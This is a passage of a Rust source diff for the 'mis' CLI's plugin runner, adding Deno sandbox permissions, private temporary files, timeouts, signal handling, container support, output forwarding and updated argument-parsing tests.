+fn wait_with_timeout(child: &mut Child, timeout: Option<Duration>) -> Result<Option<ExitStatus>> {
+    let deadline = timeout.map(|timeout| Instant::now() + timeout);
+    let mut kill_at = None;
+    loop {
+        if let Some(status) = child.try_wait()? {
+            return Ok(Some(status));
+        }
+        if kill_at.is_none()
+            && let Some(signal) = signals::pending()
+        {
+            let grace = signals::grace_period();
+            errln!(
+                "⚠️  Received {}, stopping the plugin (killed if it's still running in {}s)",
+                signals::signal_name(signal),
+                grace.as_secs()
+            );
+            signals::forward(child, signal);
+            kill_at = Some(Instant::now() + grace);
+        }
+        let now = Instant::now();
+        if deadline.is_some_and(|deadline| now >= deadline)
+            || kill_at.is_some_and(|kill_at| now >= kill_at)
+        {
+            // It may have exited in the meantime; either way, reap it
+            let _ = child.kill();
+            child.wait()?;
+            return Ok(None);
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// Read the result file a plugin may have written; missing files mean "no structured result"
+fn read_run_result(result_file: &std::path::Path) -> Option<PluginRunResult> {
+    let contents = std::fs::read_to_string(result_file).ok()?;
+    if contents.trim().is_empty() {
+        return None;
+    }
+
+    match serde_json::from_str(&contents) {
+        Ok(result) => Some(result),
+        Err(e) => {
+            errln!(
+                "⚠️  Warning: Plugin wrote an invalid result file ({}): {}",
+                result_file.display(),
+                e
+            );
+            None
+        }
+    }
+}
+
+/// "Command not found" with the closest command name and everything the plugin offers
+pub fn unknown_command_message(
+    plugin_manifest: &PluginManifest,
+    plugin_name: &str,
+    command_name: &str,
+) -> String {
+    let mut available: Vec<&str> = plugin_manifest.commands.keys().map(String::as_str).collect();
+    available.sort();
+    format!(
+        "🛑 Command '{}' not found in plugin '{}'.{}\n\
+         → Available commands: {}",
+        command_name,
+        plugin_name,
+        did_you_mean(command_name, available.iter().copied()),
+        if available.is_empty() {
+            "none".to_string()
+        } else {
+            available.join(", ")
+        }
+    )
+}
+
+pub fn json_to_toml(value: serde_json::Value) -> toml::Value {
     toml::Value::try_from(value).expect("Failed to convert plugin arg from JSON to TOML")
 }
 
-fn validate_plugin_exists(plugin_name: &str) -> Result<PathBuf> {
-    let root = find_project_root().ok_or_else(|| anyhow::anyhow!("Failed to find project root"))?;
+pub fn validate_plugin_exists(plugin_name: &str) -> Result<PathBuf> {
+    let root = require_project_root()?;
 
     if !root.exists() {
         anyhow::bail!(
@@ -156,18 +1024,22 @@ fn validate_plugin_exists(plugin_name: &str) -> Result<PathBuf> {
     }
 
     let plugin_path = root.join(".makeitso/plugins").join(plugin_name);
-    println!("Plugin path: {}", plugin_path.display());
+    debugln!("Plugin path: {}", plugin_path.display());
 
     if !plugin_path.exists() {
+        let installed = get_all_plugin_names().unwrap_or_default();
         anyhow::bail!(
-            "🛑 Plugin '{}' not found in .makeitso/plugins.\n\
+            "🛑 Plugin '{}' not found in .makeitso/plugins.{}\n\
              → Did you run `mis create plugin {}`?",
             plugin_name,
+            did_you_mean(plugin_name, installed.iter().map(String::as_str)),
             plugin_name
         );
     }
 
+    ensure_plugin_enabled(&root, plugin_name)?;
     let manifest_path = plugin_path.join(PLUGIN_MANIFEST_FILE);
+    ensure_current_manifest_name(plugin_name, &plugin_path)?;
     if !manifest_path.exists() {
         anyhow::bail!(
             "🛑 manifest.toml not found for plugin '{}'.\n\
@@ -178,20 +1050,74 @@ fn validate_plugin_exists(plugin_name: &str) -> Result<PathBuf> {
         );
     }
 
-    Ok(plugin_path)
+    Ok(plugin_path)
+}
+
+/// The sandbox a plugin run gets: its merged permissions and the exact command that starts it
+#[derive(Debug, Serialize)]
+struct LaunchPreview {
+    #[serde(flatten)]
+    permissions: CommandAudit,
+
+    /// Program and arguments, e.g. `deno run --allow-read=... script.ts --result-file ...`
+    argv: Vec<String>,
+}
+
+fn print_launch_preview(
+    preview: &LaunchPreview,
+    project_root: &Path,
+    output: OutputFormat,
+) -> Result<()> {
+    if output == OutputFormat::Json {
+        return print_json(preview);
+    }
+    outln!(
+        "🔒 Sandbox for {}:{}",
+        preview.permissions.plugin,
+        preview.permissions.command
+    );
+    print_command_audit(&preview.permissions, project_root);
+    outln!("\n▶️  {}", shell_line(&preview.argv));
+    outln!("   (the context and result files are created fresh for every run)");
+    Ok(())
+}
+
+/// A command's program and arguments, as they're passed to the OS
+fn command_line(command: &Command) -> Vec<String> {
+    std::iter::once(command.get_program())
+        .chain(command.get_args())
+        .map(|arg| arg.to_string_lossy().to_string())
+        .collect()
 }
 
+/// `argv` as one line that can be pasted into a POSIX shell
+fn shell_line(argv: &[String]) -> String {
+    argv.iter()
+        .map(|arg| {
+            let plain = !arg.is_empty()
+                && arg.chars().all(|c| {
+                    c.is_ascii_alphanumeric() || "-_./=:,@+%".contains(c)
+                });
+            if plain {
+                arg.clone()
+            } else {
+                format!("'{}'", arg.replace('\'', "'\\''"))
+            }
+        })
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+/// Run a plugin script with Deno, recording its permissions and exit code in `run_log`
 pub fn execute_plugin(
     dir: &PathBuf,
     script_file_name: &str,
     ctx: &ExecutionContext,
-    deno_dependencies: &HashMap<String, String>,
     plugin_manifest: &PluginManifest,
     command_name: &str,
-) -> Result<()> {
-    // Cache any [deno_dependencies] first
-    cache_deno_dependencies(deno_dependencies)?;
-
+    options: &RunOptions,
+    run_log: &mut RunLogEntry,
+) -> Result<Option<PluginRunResult>> {
     // Serialize the context into JSON to pass to the plugin
     let json = serde_json::to_string_pretty(ctx)?;
 
@@ -202,82 +1128,468 @@ pub fn execute_plugin(
         anyhow::bail!(
             "🛑 Plugin script not found: {}\n\
              → Expected to find: {}\n\
-             → Make sure the script file exists and matches the 'script' field in plugin.toml\n\
+             → Make sure the script file exists and matches the 'script' field in manifest.toml\n\
              → If you just created this plugin, you may need to create the script file.",
             script_file_name,
             path_and_file.display()
         );
     }
 
-    // Create a temporary file for the context JSON
-    let temp_dir = std::env::temp_dir();
-    let context_file = temp_dir.join(format!("mis-context-{}.json", std::process::id()));
+    // Use the vendored copies of [deno_dependencies] if the project has them, else cache them
+    // first, recording their checksums in the plugin's lockfile
+    let project_root = std::env::current_dir()?;
+    let container = container_image(plugin_manifest, options.container);
+    if container.is_some() && options.trace_permissions {
+        anyhow::bail!(
+            "🛑 --trace-perms isn't supported for plugins that run in a container.\n\
+             → Run without --container to trace the plugin's permissions."
+        );
+    }
+    let import_map = vendored_import_map(&project_root);
+    let lock_file = deno_lock_path(&project_root, &plugin_manifest.plugin.name)?;
+    match &import_map {
+        Some(path) => check_vendored(
+            path,
+            &plugin_manifest.plugin.name,
+            &plugin_manifest.deno_dependencies,
+        )?,
+        // The container fetches its own modules, checked against the lockfile if there is one
+        None if container.is_some() || options.show_permissions => {}
+        None => cache_deno_dependencies(
+            &plugin_manifest.deno_dependencies,
+            &path_and_file,
+            &lock_file,
+        )?,
+    }
 
-    // Write context to temp file with proper error handling
-    std::fs::write(&context_file, json).with_context(|| {
-        format!(
-            "Failed to write context to temporary file: {}",
-            context_file.display()
-        )
+    // The run's files go in a directory with a random name that only this user can open,
+    // inside one that's theirs alone, removed with everything in it when the run ends
+    // The pid in its name lets a later mis tell whether it was abandoned by a crash
+    let runs_dir = runs_dir();
+    ensure_private_dir(&runs_dir).with_context(|| {
+        format!("🛑 Failed to create a private directory for plugin runs: {}", runs_dir.display())
     })?;
+    let run_dir_prefix = format!("{}{}-", RUN_DIR_PREFIX, std::process::id());
+    let mut run_dir = tempfile::Builder::new();
+    run_dir.prefix(&run_dir_prefix);
+    #[cfg(unix)]
+    run_dir.permissions(std::os::unix::fs::PermissionsExt::from_mode(0o700));
+    let run_dir = run_dir
+        .tempdir_in(&runs_dir)
+        .context("🛑 Failed to create a temporary directory for the plugin run")?;
+    let temp_dir = run_dir.path();
+
+    // The context is piped on stdin when the manifest asks for it, otherwise written to a
+    // temporary file so stdin stays free for prompts
+    let pipe_context = plugin_manifest.context_transport == Some(ContextTransport::Stdin);
+    let context_file = if pipe_context {
+        None
+    } else {
+        let context_file = temp_dir.join("context.json");
+        write_private_file(&context_file, json.as_bytes()).with_context(|| {
+            format!(
+                "Failed to write context to temporary file: {}",
+                context_file.display()
+            )
+        })?;
+        Some(context_file)
+    };
 
-    // Ensure cleanup happens even if execution fails
-    let cleanup_guard = ContextFileCleanup::new(&context_file);
+    // Ensure cleanup happens even if execution fails; the context may hold secrets, so it's
+    // overwritten before it's removed
+    let cleanup_guard = context_file.as_deref().map(ContextFileCleanup::shredding);
+
+    // Plugins may write a structured JSON result here for the CLI to pick up
+    let result_file = temp_dir.join("result.json");
+    let result_cleanup_guard = ContextFileCleanup::new(&result_file);
+    if container.is_some() {
+        // Bind-mounting a missing file would create a directory in its place
+        write_private_file(&result_file, b"").with_context(|| {
+            format!("Failed to create result file: {}", result_file.display())
+        })?;
+    }
 
     // Build secure permissions for the plugin using manifest-declared permissions
-    let project_root = std::env::current_dir()?;
     let mut permissions = build_plugin_permissions(&project_root, plugin_manifest, command_name)?;
 
-    // Add permission to read the context file
-    permissions.allow_read(&context_file);
+    // Ask about blocked permissions, unless several plugins share the terminal or we're only
+    // showing what the run would get
+    let interactive = options.output_prefix.is_none()
+        && !options.show_permissions
+        && std::io::stdin().is_terminal();
+    resolve_violations(
+        &mut permissions,
+        &plugin_manifest.plugin.name,
+        &project_root,
+        interactive,
+    )?;
+    run_log.permissions = permissions.to_deno_args();
+    run_log.violations = permissions.violations.clone();
+    if !options.show_permissions {
+        permissions.check_strict(&plugin_manifest.plugin.name)?;
+    }
+
+    // Add permission to read the context file and write the result file
+    if let Some(context_file) = &context_file {
+        permissions.allow_cli_managed_file(context_file, false);
+    }
+    permissions.allow_cli_managed_file(&result_file, true);
+
+    grant_state_dir(&mut permissions, &ctx.state_dir, !options.show_permissions)?;
 
     // Build Deno command arguments, passing context file path as argument
     let mut deno_args = vec!["run".to_string()];
     deno_args.extend(permissions.to_deno_args());
+    // Refuse anything that isn't in the lockfile or doesn't match it
+    let frozen_lock = (!plugin_manifest.deno_dependencies.is_empty()
+        && (container.is_none() || lock_file.exists()))
+    .then_some(lock_file.as_path());
+    deno_args.extend(module_resolution_args(import_map.as_deref(), frozen_lock));
     deno_args.push(path_and_file.to_string_lossy().to_string());
-    deno_args.push("--context-file".to_string());
-    deno_args.push(context_file.to_string_lossy().to_string());
+    if let Some(context_file) = &context_file {
+        deno_args.push("--context-file".to_string());
+        deno_args.push(context_file.to_string_lossy().to_string());
+    }
+    deno_args.push("--result-file".to_string());
+    deno_args.push(result_file.to_string_lossy().to_string());
+
+    let mut deno = match container {
+        Some(image) => {
+            let needs_remote_modules =
+                import_map.is_none() && !plugin_manifest.deno_dependencies.is_empty();
+            let host_env = std::env::vars_os().filter_map(|(name, _)| name.into_string().ok());
+            let mut engine = container_command();
+            engine
+                .args(container_run_args(
+                    &permissions,
+                    &project_root,
+                    image,
+                    needs_remote_modules,
+                    host_env,
+                ))
+                .arg("deno");
+            engine
+        }
+        None => deno_command(),
+    };
+    deno.args(&deno_args);
+    match &context_file {
+        Some(context_file) => traceln!("Context file: {}", context_file.display()),
+        None => traceln!("Context: piped on stdin"),
+    }
+    traceln!("Running: {:?}", deno);
+
+    if options.show_permissions || (ctx.dry_run && options.output == OutputFormat::Text) {
+        let preview = LaunchPreview {
+            permissions: audit_permissions(
+                &plugin_manifest.plugin.name,
+                command_name,
+                permissions.clone(),
+            ),
+            argv: command_line(&deno),
+        };
+        print_launch_preview(&preview, &project_root, options.output)?;
+        if options.show_permissions {
+            return Ok(None);
+        }
+    }
+
+    // With --trace-perms, Deno logs every permission access to this file
+    let audit_file = temp_dir.join("perm-audit.json");
+    let audit_cleanup_guard = ContextFileCleanup::new(&audit_file);
+    if options.trace_permissions {
+        deno.env(DENO_AUDIT_ENV_VAR, &audit_file);
+    }
 
     // Spawn the plugin with Deno using secure permissions
     // stdin is now inherited, allowing plugins to prompt for user input
-    let mut child = Command::new("deno")
-        .args(&deno_args)
-        .stdin(Stdio::inherit())  // Changed: Allow plugin to access terminal stdin
-        .stdout(Stdio::inherit())
-        .stderr(Stdio::inherit())
+    // stdout is piped (and echoed) only when it needs a prefix, so plugins keep their TTY;
+    // errors.toml hints are matched against whatever was captured, stderr at least
+    let failure_hints = load_failure_hints(dir);
+    let output_prefix = options.output_prefix;
+    let capture_output = output_prefix.is_some();
+
+    // Concurrent (prefixed) runs can't share the terminal's stdin
+    let stdin = if pipe_context {
+        Stdio::piped()
+    } else if output_prefix.is_some() {
+        Stdio::null()
+    } else {
+        Stdio::inherit()
+    };
+    let stdout = if capture_output {
+        Stdio::piped()
+    } else {
+        plugin_stdout()
+    };
+
+    // Ctrl-C and SIGTERM stop the plugin rather than mis, so the cleanup below still runs
+    let _forwarding = signals::Forwarding::start();
+
+    // stderr is always read so log and progress lines can be picked out of it
+    let mut child = deno
+        .stdin(stdin)
+        .stdout(stdout)
+        .stderr(Stdio::piped())
         .spawn()
         .with_context(|| format!("🛑 Failed to run plugin script: {}\n→ Make sure Deno is installed and the script is valid", script_file_name))?;
 
-    let status = child.wait()?;
+    let stdin = child.stdin.take();
+    let stdout = child.stdout.take();
+    let stderr = child.stderr.take();
+    let (status, captured_output, logs) = std::thread::scope(|scope| {
+        // Written from its own thread so a large context can't fill the pipe and stall the
+        // plugin's output; the pipe closes once it's written so the plugin sees the end
+        if let Some(mut stdin) = stdin {
+            let json = &json;
+            scope.spawn(move || stdin.write_all(json.as_bytes()));
+        }
+        let to_stderr = json_output();
+        let stdout = stdout.map(|r| scope.spawn(move || forward_output(r, output_prefix, to_stderr, false)));
+        let stderr = stderr.map(|r| scope.spawn(move || forward_output(r, output_prefix, true, true)));
+        // Wait before joining the readers so a timeout can kill the plugin and close its pipes
+        let status = wait_with_timeout(&mut child, options.timeout);
+        let mut captured = Vec::new();
+        let mut logs = Vec::new();
+        for handle in [stdout, stderr].into_iter().flatten() {
+            let (output, lines) = handle.join().unwrap_or_default();
+            captured.push(output);
+            logs.extend(lines);
+        }
+        (status, captured.join("\n"), logs)
+    });
+    let status = status?;
+    run_log.logs = logs;
+
+    let run_result = read_run_result(&result_file);
+
+    if options.trace_permissions {
+        let audit_log = std::fs::read_to_string(&audit_file).unwrap_or_default();
+        let report = PermissionReport::new(plugin_manifest, command_name, parse_audit_log(&audit_log));
+        report.print();
+        match report.save(&project_root) {
+            Ok(path) => outln!("📄 Report saved to {}", path.strip_prefix(&project_root).unwrap_or(&path).display()),
+            Err(e) => errln!("⚠️  Warning: Failed to save permission report: {:#}", e),
+        }
+    }
 
-    // Cleanup happens automatically when cleanup_guard is dropped
+    // Cleanup happens automatically when the guards are dropped
     drop(cleanup_guard);
+    drop(result_cleanup_guard);
+    drop(audit_cleanup_guard);
+
+    run_log.exit_code = status.and_then(|s| s.code());
+
+    if let Some(signal) = signals::pending() {
+        anyhow::bail!(
+            "🛑 Plugin '{}' command '{}' was stopped by {}.",
+            plugin_manifest.plugin.name,
+            command_name,
+            signals::signal_name(signal)
+        );
+    }
+
+    let Some(status) = status else {
+        anyhow::bail!(
+            "🛑 Plugin '{}' command '{}' timed out after {}s and was stopped.\n\
+             → Raise the step's `timeout` if it legitimately needs longer.",
+            plugin_manifest.plugin.name,
+            command_name,
+            options.timeout.unwrap_or_default().as_secs()
+        );
+    };
 
     if !status.success() {
+        let matched_hints = match_failure_hints(&failure_hints, &captured_output);
+        if matched_hints.is_empty() {
+            print_plugin_issue_link(
+                &plugin_manifest.plugin.name,
+                &plugin_manifest.plugin.version,
+                command_name,
+                plugin_manifest.plugin.registry.as_deref(),
+            );
+        } else {
+            print_failure_hints(&matched_hints);
+        }
         return Err(anyhow::anyhow!(
             "🛑 Plugin exited with error (non-zero status)\n→ Check the plugin output above for details"
         ));
     }
 
-    Ok(())
+    if let Some(PluginRunResult {
+        success: Some(false),
+        message,
+        ..
+    }) = &run_result
+    {
+        return Err(anyhow::anyhow!(
+            "🛑 Plugin reported failure: {}",
+            message.as_deref().unwrap_or("no details provided")
+        ));
+    }
+
+    Ok(run_result)
+}
+
+/// Where the plugin's own stdout goes: ours, unless stdout is reserved for `--output json`
+fn plugin_stdout() -> Stdio {
+    if json_output() {
+        Stdio::from(std::io::stderr())
+    } else {
+        Stdio::inherit()
+    }
+}
+
+/// Load the plugin's errors.toml; a broken file only costs the hints, not the run
+fn load_failure_hints(plugin_dir: &std::path::Path) -> Vec<FailureHint> {
+    load_plugin_error_hints(&plugin_dir.join(PLUGIN_ERRORS_FILE)).unwrap_or_else(|e| {
+        errln!("⚠️  Warning: Failed to load failure hints: {:#}", e);
+        Vec::new()
+    })
+}
+
+/// Echo a child's output to our own stdout/stderr and return the last
+/// `CAPTURED_OUTPUT_LIMIT` bytes it wrote (for errors.toml hints), along with any
+/// structured log lines when `parse_protocol` is set.
+///
+/// With a prefix, output is forwarded line by line with each line tagged `[prefix]`;
+/// without one it's passed through as it arrives so interactive prompts still show.
+/// `::mis::log::` and `::mis::progress::` lines are picked out of whole lines, so
+/// `parse_protocol` also reads line by line.
+fn forward_output<R: Read>(
+    reader: R,
+    prefix: Option<&str>,
+    to_stderr: bool,
+    parse_protocol: bool,
+) -> (String, Vec<PluginLogLine>) {
+    let mut reader = BufReader::new(reader);
+    let mut captured = Vec::new();
+    let mut logs = Vec::new();
+    let mut buf = Vec::new();
+    let mut progress = PluginProgress::new(prefix);
+    let by_line = prefix.is_some() || parse_protocol;
+
+    loop {
+        buf.clear();
+        let read = if by_line {
+            reader.read_until(b'\n', &mut buf)
+        } else {
+            reader.fill_buf().map(|chunk| {
+                buf.extend_from_slice(chunk);
+                chunk.len()
+            })
+        };
+
+        match read {
+            Ok(0) | Err(_) => break,
+            Ok(len) => {
+                if !by_line {
+                    reader.consume(len);
+                }
+
+                if parse_protocol
+                    && let Some(update) = parse_progress_line(&String::from_utf8_lossy(&buf))
+                {
+                    progress.update(&update);
+                    continue;
+                }
+
+                let log_line = if parse_protocol {
+                    let received_at = SystemTime::now()
+                        .duration_since(UNIX_EPOCH)
+                        .unwrap_or_default()
+                        .as_secs();
+                    parse_log_line(&String::from_utf8_lossy(&buf), received_at)
+                } else {
+                    None
+                };
+                if let Some(entry) = log_line {
+                    suspend(|| print_log_line(&entry, prefix));
+                    keep_tail(&mut captured, entry.message.as_bytes());
+                    keep_tail(&mut captured, b"\n");
+                    logs.push(entry);
+                    continue;
+                }
+                keep_tail(&mut captured, &buf);
+
+                suspend(|| match prefix {
+                    Some(prefix) => {
+                        let line = String::from_utf8_lossy(&buf);
+                        let line = line.trim_end_matches(['\r', '\n']);
+                        if to_stderr {
+                            eprintln!("[{}] {}", prefix, line);
+                        } else {
+                            println!("[{}] {}", prefix, line);
+                        }
+                    }
+                    None if to_stderr => {
+                        let mut err = std::io::stderr();
+                        let _ = err.write_all(&buf).and_then(|_| err.flush());
+                    }
+                    None => {
+                        let mut out = std::io::stdout();
+                        let _ = out.write_all(&buf).and_then(|_| out.flush());
+                    }
+                });
+            }
+        }
+    }
+
+    if captured.len() > CAPTURED_OUTPUT_LIMIT {
+        captured.drain(..captured.len() - CAPTURED_OUTPUT_LIMIT);
+    }
+    (String::from_utf8_lossy(&captured).into_owned(), logs)
+}
+
+/// How much of a plugin's output is kept for matching errors.toml hints
+const CAPTURED_OUTPUT_LIMIT: usize = 64 * 1024;
+
+/// Append to the captured output, dropping what's beyond the limit from the front.
+/// Trimmed in batches so long output doesn't shift the buffer on every line.
+fn keep_tail(captured: &mut Vec<u8>, bytes: &[u8]) {
+    captured.extend_from_slice(bytes);
+    if captured.len() > 2 * CAPTURED_OUTPUT_LIMIT {
+        captured.drain(..captured.len() - CAPTURED_OUTPUT_LIMIT);
+    }
 }
 
 /// RAII guard to ensure context file cleanup
 struct ContextFileCleanup<'a> {
     file_path: &'a std::path::Path,
+    shred: bool,
 }
 
 impl<'a> ContextFileCleanup<'a> {
     fn new(file_path: &'a std::path::Path) -> Self {
-        Self { file_path }
+        Self {
+            file_path,
+            shred: false,
+        }
+    }
+
+    /// Overwrite the file before removing it
+    fn shredding(file_path: &'a std::path::Path) -> Self {
+        Self {
+            file_path,
+            shred: true,
+        }
     }
 }
 
 impl<'a> Drop for ContextFileCleanup<'a> {
     fn drop(&mut self) {
         if self.file_path.exists() {
+            if self.shred
+                && let Err(e) = overwrite_with_zeros(self.file_path)
+            {
+                errln!(
+                    "⚠️  Warning: Failed to overwrite context file {}: {}",
+                    self.file_path.display(),
+                    e
+                );
+            }
             if let Err(e) = std::fs::remove_file(self.file_path) {
-                eprintln!(
+                errln!(
                     "⚠️  Warning: Failed to cleanup context file {}: {}",
                     self.file_path.display(),
                     e
@@ -290,31 +1602,38 @@ impl<'a> Drop for ContextFileCleanup<'a> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use indexmap::IndexMap;
     use crate::models::{
         ArgDefinition, ArgType, CommandArgs, PluginCommand, PluginManifest, PluginMeta,
     };
     use std::collections::HashMap;
 
     fn create_test_plugin_manifest() -> PluginManifest {
-        let mut commands = HashMap::new();
+        let mut commands = IndexMap::new();
 
-        let mut required = HashMap::new();
+        let mut required = IndexMap::new();
         required.insert(
             "environment".to_string(),
             ArgDefinition {
                 description: "Target environment".to_string(),
                 arg_type: ArgType::String,
                 default_value: None,
+                allowed_values: Vec::new(),
+                aliases: Vec::new(),
+                multiple: false,
             },
         );
 
-        let mut optional = HashMap::new();
+        let mut optional = IndexMap::new();
         optional.insert(
             "verbose".to_string(),
             ArgDefinition {
                 description: "Enable verbose output".to_string(),
                 arg_type: ArgType::Boolean,
                 default_value: Some("false".to_string()),
+                allowed_values: Vec::new(),
+                aliases: Vec::new(),
+                multiple: false,
             },
         );
         optional.insert(
@@ -323,6 +1642,9 @@ mod tests {
                 description: "Number of items".to_string(),
                 arg_type: ArgType::Integer,
                 default_value: Some("1".to_string()),
+                allowed_values: Vec::new(),
+                aliases: Vec::new(),
+                multiple: false,
             },
         );
 
@@ -334,6 +1656,11 @@ mod tests {
                 instructions: None,
                 args: Some(CommandArgs { required, optional }),
                 permissions: None,
+                hooks: None,
+                test: None,
+                exclusive: false,
+                confirm: None,
+                deprecated: None,
             },
         );
 
@@ -343,10 +1670,18 @@ mod tests {
                 description: Some("Test plugin".to_string()),
                 version: "1.0.0".to_string(),
                 registry: None,
+                pin: None,
+                execution: None,
             },
             commands,
-            deno_dependencies: HashMap::new(),
+            deno_dependencies: IndexMap::new(),
             permissions: None,
+            config_schema: IndexMap::new(),
+            mis_version_requirement: None,
+            requires: None,
+            container: None,
+            context: None,
+            context_transport: None,
         }
     }
 
@@ -379,8 +1714,8 @@ mod tests {
 
         let parsed_args = parse_cli_args(&raw_args);
 
-        assert_eq!(parsed_args.get("environment"), Some(&"staging".to_string()));
-        assert_eq!(parsed_args.get("verbose"), Some(&"true".to_string()));
+        assert_eq!(parsed_args.get("environment"), Some(&vec!["staging".to_string()]));
+        assert_eq!(parsed_args.get("verbose"), Some(&vec!["true".to_string()]));
     }
 
     #[test]
@@ -414,8 +1749,8 @@ mod tests {
 
         // This will fail because spaces break the reconstruction
         // "hello world" becomes ["hello", "world"] after split_whitespace
-        assert_ne!(parsed_args.get("message"), Some(&"hello world".to_string()));
-        assert_eq!(parsed_args.get("message"), Some(&"hello".to_string()));
+        assert_ne!(parsed_args.get("message"), Some(&vec!["hello world".to_string()]));
+        assert_eq!(parsed_args.get("message"), Some(&vec!["hello".to_string()]));
     }
 
     #[test]
@@ -447,8 +1782,8 @@ mod tests {
         let parsed_args = parse_cli_args(&raw_args);
 
         // Now correctly handles empty values as boolean flags
-        assert_eq!(parsed_args.get("name"), Some(&"test".to_string()));
-        assert_eq!(parsed_args.get("flag"), Some(&"true".to_string())); // Now correctly handled
+        assert_eq!(parsed_args.get("name"), Some(&vec!["test".to_string()]));
+        assert_eq!(parsed_args.get("flag"), Some(&vec!["true".to_string()])); // Now correctly handled
     }
 
     #[test]
@@ -484,11 +1819,11 @@ mod tests {
 
         assert_eq!(
             parsed_args.get("url"),
-            Some(&"https://example.com/path?param=value&other=123".to_string())
+            Some(&vec!["https://example.com/path?param=value&other=123".to_string()])
         );
         assert_eq!(
             parsed_args.get("regex"),
-            Some(&"^[a-zA-Z0-9]+$".to_string())
+            Some(&vec!["^[a-zA-Z0-9]+$".to_string()])
         );
     }
 
@@ -515,9 +1850,48 @@ mod tests {
 
         let parsed_args = parse_cli_args(&raw_args);
 
-        assert_eq!(parsed_args.get("message"), Some(&"hello world".to_string()));
-        assert_eq!(parsed_args.get("flag"), Some(&"true".to_string()));
-        assert_eq!(parsed_args.get("count"), Some(&"5".to_string()));
+        assert_eq!(parsed_args.get("message"), Some(&vec!["hello world".to_string()]));
+        assert_eq!(parsed_args.get("flag"), Some(&vec!["true".to_string()]));
+        assert_eq!(parsed_args.get("count"), Some(&vec!["5".to_string()]));
+    }
+
+    #[test]
+    fn test_validated_plugin_args_repeated_values_become_arrays() {
+        let command: PluginCommand = toml::from_str(
+            r#"
+script = "./push.ts"
+
+[args.optional.tag]
+description = "Image tag"
+multiple = true
+
+[args.optional.registry]
+description = "Registry to push to"
+"#,
+        )
+        .unwrap();
+
+        let raw_args = HashMap::from([
+            ("tag".to_string(), vec!["v1".to_string(), "latest".to_string()]),
+            ("registry".to_string(), vec!["ghcr.io".to_string()]),
+        ]);
+        let args = validated_plugin_args(raw_args, &command, "docker", "push").unwrap();
+        assert_eq!(args["tag"], serde_json::json!(["v1", "latest"]));
+        assert_eq!(args["registry"], serde_json::json!("ghcr.io"));
+
+        // Declared `multiple`, so one value is still an array
+        let raw_args = HashMap::from([("tag".to_string(), vec!["v1".to_string()])]);
+        let args = validated_plugin_args(raw_args, &command, "docker", "push").unwrap();
+        assert_eq!(args["tag"], serde_json::json!(["v1"]));
+
+        let raw_args = HashMap::from([(
+            "registry".to_string(),
+            vec!["ghcr.io".to_string(), "quay.io".to_string()],
+        )]);
+        let error = validated_plugin_args(raw_args, &command, "docker", "push")
+            .unwrap_err()
+            .to_string();
+        assert!(error.contains("'--registry' was given 2 times, but takes a single value"));
     }
 
     #[test]
@@ -527,8 +1901,8 @@ mod tests {
 
         // Test with arguments that have special characters
         let mut provided_args = HashMap::new();
-        provided_args.insert("environment".to_string(), "staging-us-west-2".to_string());
-        provided_args.insert("verbose".to_string(), "true".to_string());
+        provided_args.insert("environment".to_string(), vec!["staging-us-west-2".to_string()]);
+        provided_args.insert("verbose".to_string(), vec!["true".to_string()]);
 
         let result = validate_plugin_args(
             &provided_args,
@@ -541,10 +1915,10 @@ mod tests {
         let validated = result.unwrap();
         assert_eq!(
             validated.get("environment"),
-            Some(&"staging-us-west-2".to_string())
+            Some(&vec!["staging-us-west-2".to_string()])
         );
-        assert_eq!(validated.get("verbose"), Some(&"true".to_string()));
-        assert_eq!(validated.get("count"), Some(&"1".to_string())); // default value
+        assert_eq!(validated.get("verbose"), Some(&vec!["true".to_string()]));
+        assert_eq!(validated.get("count"), Some(&vec!["1".to_string()])); // default value
     }
 
     #[test]
@@ -566,8 +1940,8 @@ mod tests {
 
         for (input, expected) in test_cases {
             let mut provided_args = HashMap::new();
-            provided_args.insert("environment".to_string(), "test".to_string());
-            provided_args.insert("verbose".to_string(), input.to_string());
+            provided_args.insert("environment".to_string(), vec!["test".to_string()]);
+            provided_args.insert("verbose".to_string(), vec![input.to_string()]);
 
             let result = validate_plugin_args(
                 &provided_args,
@@ -580,7 +1954,7 @@ mod tests {
             let validated = result.unwrap();
             assert_eq!(
                 validated.get("verbose"),
-                Some(&expected.to_string()),
+                Some(&vec![expected.to_string()]),
                 "Failed for input: {}, expected: {}",
                 input,
                 expected
@@ -594,8 +1968,8 @@ mod tests {
         let command = manifest.commands.get("deploy").unwrap();
 
         let mut provided_args = HashMap::new();
-        provided_args.insert("environment".to_string(), "test".to_string());
-        provided_args.insert("verbose".to_string(), "invalid-boolean".to_string());
+        provided_args.insert("environment".to_string(), vec!["test".to_string()]);
+        provided_args.insert("verbose".to_string(), vec!["invalid-boolean".to_string()]);
 
         let result = validate_plugin_args(
             &provided_args,
@@ -626,8 +2000,8 @@ mod tests {
 
         for (input, should_succeed) in test_cases {
             let mut provided_args = HashMap::new();
-            provided_args.insert("environment".to_string(), "test".to_string());
-            provided_args.insert("count".to_string(), input.to_string());
+            provided_args.insert("environment".to_string(), vec!["test".to_string()]);
+            provided_args.insert("count".to_string(), vec![input.to_string()]);
 
             let result = validate_plugin_args(
                 &provided_args,
@@ -682,10 +2056,10 @@ mod tests {
         // Check all arguments are correctly processed
         assert_eq!(
             validated.get("environment"),
-            Some(&"staging-us-west-2".to_string())
+            Some(&vec!["staging-us-west-2".to_string()])
         );
-        assert_eq!(validated.get("verbose"), Some(&"true".to_string())); // Empty value became boolean
-        assert_eq!(validated.get("count"), Some(&"5".to_string()));
+        assert_eq!(validated.get("verbose"), Some(&vec!["true".to_string()])); // Empty value became boolean
+        assert_eq!(validated.get("count"), Some(&vec!["5".to_string()]));
     }
 
     #[test]
@@ -725,10 +2099,10 @@ mod tests {
         assert_eq!(validated.len(), 3); // All 3 arguments present
         assert_eq!(
             validated.get("environment"),
-            Some(&"production-eu-central-1".to_string())
+            Some(&vec!["production-eu-central-1".to_string()])
         );
-        assert_eq!(validated.get("verbose"), Some(&"true".to_string()));
-        assert_eq!(validated.get("count"), Some(&"10".to_string()));
+        assert_eq!(validated.get("verbose"), Some(&vec!["true".to_string()]));
+        assert_eq!(validated.get("count"), Some(&vec!["10".to_string()]));
     }
 
     #[test]
@@ -772,16 +2146,16 @@ description = "Check version"
 
         // Create a simple script that just outputs the context
         let script_content = r#"
-import { loadContext, outputSuccess } from "../plugin-api.ts";
+import { mis } from "../../mis-plugin-api.ts";
 
-const ctx = await loadContext();
-outputSuccess({ version: ctx.meta.version });
